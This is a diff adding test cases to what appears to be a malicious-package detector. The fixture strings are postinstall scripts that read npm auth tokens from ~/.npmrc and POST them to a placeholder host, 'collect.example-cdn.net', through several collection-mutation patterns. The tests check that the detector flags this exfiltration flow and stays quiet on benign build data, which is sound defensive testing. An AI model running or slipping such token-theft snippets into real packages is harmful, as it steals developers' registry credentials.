@@ -288,3 +288,32 @@ module.exports = check;`,
     expect(r.evidence.map((e) => e.rule)).toContain('js.remote-triggered-destructive');
   });
 });
+
+describe('collections filled by mutation keep what they carry', () => {
+  const send = `const r = require('https').request({ host: 'collect.example-cdn.net', method: 'POST', path: '/u' });`;
+  const read = `require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')`;
+  const flowRules = (code: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
+      'i.js': code,
+    }).evidence.map((f) => f.rule);
+  it('set.add, splice, Object.assign, borrowed push (apply and call), a class that pushes into a field', () => {
+    for (const code of [
+      `const found = new Set(); for (const m of ${read}.matchAll(/_authToken=(\\S+)/g)) found.add(m[1]);\n${send} r.end([...found].join('\\n'));`,
+      `const parts = ['start']; parts.splice(1, 0, ${read});\n${send} r.end(parts.join('|'));`,
+      `const out = {}; Object.assign(out, { npmrc: ${read} });\n${send} r.end(JSON.stringify(out));`,
+      `const acc = []; Array.prototype.push.apply(acc, ${read}.split('\\n'));\n${send} r.end(acc.join(';'));`,
+      `const acc = []; [].push.call(acc, ${read});\n${send} r.end(acc.join(';'));`,
+      `class Bag { constructor() { this.items = []; } add(x) { this.items.push(x); } dump() { return this.items.join('\\n'); } }
+const b = new Bag(); b.add(${read});\n${send} r.end(b.dump());`,
+    ])
+      expect(flowRules(code)).toContain('js.exfil-flow');
+  });
+  it('the same collections filled with the package’s own build data are not a flow of secrets', () => {
+    for (const code of [
+      `const names = new Set(); for (const f of require('fs').readdirSync(__dirname + '/dist')) names.add(f);\n${send} r.end([...names].join('\\n'));`,
+      `const meta = {}; Object.assign(meta, { version: require('./package.json').version });\n${send} r.end(JSON.stringify(meta));`,
+    ])
+      expect(flowRules(code)).not.toContain('js.exfil-flow');
+  });
+});
